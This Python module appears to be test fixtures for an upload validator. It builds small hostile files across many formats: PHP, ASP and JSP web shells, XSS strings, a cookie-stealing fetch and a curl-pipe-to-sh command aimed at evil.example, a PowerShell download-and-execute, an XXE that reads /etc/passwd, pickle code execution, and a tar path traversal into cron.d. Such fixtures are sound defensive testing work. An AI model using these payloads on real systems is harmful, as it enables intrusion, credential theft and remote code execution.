"""What an attacker wants to have stored: archives, programs, pages and scripts, each as small as its format allows."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><head><script>alert(1)</script></head><body>hello</body></html>"
JS = b"*/=1;fetch('https://evil.example/?'+document.cookie);/*"
SHELL = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
PERL = b"#!/usr/bin/perl\nsystem('id');\n"
POWERSHELL = b"Invoke-Expression (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')\r\n"
BATCH = b"@echo off\r\npowershell -nop -w hidden -c whoami\r\n"
VBS = b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c whoami"\r\n'
ASP = b'<%@ Language=VBScript %><%eval request("c")%>'
JSP = b'<%@ page import="java.util.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
SVG_DECLARED = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "">\n' + SVG
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
POSTSCRIPT = b"%!PS-Adobe-3.0\n(%pipe%id) (w) file /DCTDecode filter\nshowpage\n"
RTF = b"{\\rtf1\\ansi{\\object\\objocx\\objdata 0105}}"
PICKLE0 = b"cos\nsystem\n(S'id'\ntR."
PICKLE4 = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60)
WASM = b"\x00asm\x01\x00\x00\x00" + bytes(16)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"\xff" * 512
SWF = b"FWS\x08" + struct.pack("<I", 40) + bytes(32)
SQLITE = b"SQLite format 3\x00\x10\x00\x01\x01\x00\x40\x20\x20" + bytes(4072)
SHORTCUT = b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + bytes(56)
DEX = b"dex\n035\x00" + bytes(104)


def archive(files: dict[str, bytes], comment: bytes = b"", method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these files, the same bytes every time."""
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as zipped:
        for name, data in files.items():
            zipped.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, method)
        zipped.comment = comment
    return body.getvalue()


def elf() -> bytes:
    """x86-64: one loadable segment, exit(0)."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(code), 120 + len(code), 0x1000)
    return head + segment + code


def pe() -> bytes:
    stub = b"MZ" + bytes(58) + struct.pack("<I", 64)
    coff = struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
    return stub + b"PE\0\0" + coff + struct.pack("<H", 0x20B) + bytes(238) + b".text\0\0\0" + bytes(32) + bytes(64)


def rar() -> bytes:
    def block(body: bytes) -> bytes:
        sized = bytes([len(body)]) + body
        return struct.pack("<I", zlib.crc32(sized)) + sized

    return b"Rar!\x1a\x07\x01\x00" + block(b"\x01\x00\x00") + block(b"\x05\x00\x00")


def seven_zip() -> bytes:
    following = b"\x01\x00"
    start = struct.pack("<QQI", 8, len(following), zlib.crc32(following))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + b"payload!" + following


def tar() -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w", format=tarfile.USTAR_FORMAT) as tarred:
        info = tarfile.TarInfo("../../etc/cron.d/evil")
        info.size = len(SHELL)
        tarred.addfile(info, io.BytesIO(SHELL))
    return body.getvalue()


ZIP = archive({"evil.php": PHP})
JAR = archive({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\r\nMain-Class: Evil\r\n\r\n", "Evil.class": JAVA_CLASS})
TORCH = archive({"archive/data.pkl": PICKLE4, "archive/version": b"3\n"}, method=zipfile.ZIP_STORED)
DOCM = archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<d/>", "word/vbaProject.bin": OLE})
APK = archive({"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": DEX})
GZIP = gzip.compress(SHELL * 9, mtime=0)
BZIP2 = bz2.compress(SHELL * 9)
XZ = lzma.compress(SHELL * 9)
ZSTD = b"\x28\xb5\x2f\xfd\x20\x05\x29\x00\x00hello"
SVGZ = gzip.compress(SVG, mtime=0)

APPENDED: dict[str, bytes] = {
    "ZIP": ZIP,
    "JAR": JAR,
    "HTML": HTML,
    "PHP": PHP,
    "JS": JS,
    "ELF": elf(),
    "PE": pe(),
    "PDF": PDF,
    "RAR": rar(),
    "7z": seven_zip(),
}
"""what is put behind the end of a valid file, to be found there by another program"""

ACTIVE: dict[str, bytes] = {
    "php": PHP,
    "script": SCRIPT,
    "php-short": b"<?=`$_GET[0]`?>",
    "html": b"<html><body onload=alert(1)>",
    "handler": b"<img src=x onerror=alert(1)>",
    "svg": b"<svg/onload=alert(1)>",
    "iframe": b'<iframe src="javascript:alert(1)"></iframe>',
    "asp": ASP,
    "jsp": JSP,
    "case": b"<ScRiPt >alert(1)</sCrIpT>",
}
"""what turns a comment into a program once somebody serves or includes the file"""

FOREIGN: dict[str, tuple[str, bytes]] = {
    "ELF": ("run.bin", elf()),
    "PE": ("setup.exe", pe()),
    "ZIP": ("files.zip", ZIP),
    "JAR": ("app.jar", JAR),
    "APK": ("app.apk", APK),
    "DOCM": ("letter.docm", DOCM),
    "OLE": ("letter.doc", OLE),
    "RTF": ("letter.rtf", RTF),
    "PDF": ("paper.pdf", PDF),
    "PostScript": ("paper.eps", POSTSCRIPT),
    "HTML": ("page.html", HTML),
    "SVG": ("drawing.svg", SVG),
    "SVGZ": ("drawing.svgz", SVGZ),
    "XML with an external entity": ("data.xml", XXE),
    "PHP": ("shell.php", PHP),
    "ASP": ("shell.asp", ASP),
    "JSP": ("shell.jsp", JSP),
    "JavaScript": ("code.js", b"require('child_process').exec('id');\n"),
    "shell": ("run.sh", SHELL),
    "Python": ("run.py", PYTHON),
    "Perl": ("run.pl", PERL),
    "PowerShell": ("run.ps1", POWERSHELL),
    "batch": ("run.bat", BATCH),
    "VBScript": ("run.vbs", VBS),
    "shortcut": ("open.lnk", SHORTCUT),
    "pickle 0": ("model.pkl", PICKLE0),
    "pickle 4": ("model.pickle", PICKLE4),
    "PyTorch": ("model.pt", TORCH),
    "tar": ("files.tar", tar()),
    "gzip": ("files.gz", GZIP),
    "bzip2": ("files.bz2", BZIP2),
    "xz": ("files.xz", XZ),
    "zstd": ("files.zst", ZSTD),
    "RAR": ("files.rar", rar()),
    "7z": ("files.7z", seven_zip()),
    "Java class": ("Evil.class", JAVA_CLASS),
    "dex": ("classes.dex", DEX),
    "WebAssembly": ("code.wasm", WASM),
    "Flash": ("film.swf", SWF),
    "SQLite": ("data.db", SQLITE),
    "EICAR": ("eicar.com", EICAR),
    "text": ("notes.txt", b"just a note, and text is not on the map\n"),
    "random bytes": ("noise.bin", bytes((i * i * 31 + i * 7 + 3) % 251 for i in range(2000))),
    "zeros": ("zeros.bin", bytes(2000)),
}
"""content that is not on the allowed map, under the name that is its own"""
